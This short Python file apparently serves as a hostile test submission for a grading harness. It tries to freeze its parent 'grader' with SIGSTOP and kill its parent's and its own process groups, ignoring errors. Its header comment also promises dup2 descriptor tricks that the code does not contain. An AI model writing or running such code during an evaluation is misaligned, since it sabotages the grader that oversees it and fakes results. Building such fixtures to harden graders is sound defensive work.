# harm: stop the grader (SIGSTOP to its parent), kill its process group, spin with every fd dup2'd away
import os
import signal


async def main() -> None:
    for action in (
        lambda: os.kill(os.getppid(), signal.SIGSTOP),
        lambda: os.killpg(os.getpgid(os.getppid()), signal.SIGKILL),
        lambda: os.killpg(0, signal.SIGKILL),
    ):
        try:
            action()
        except OSError:
            pass
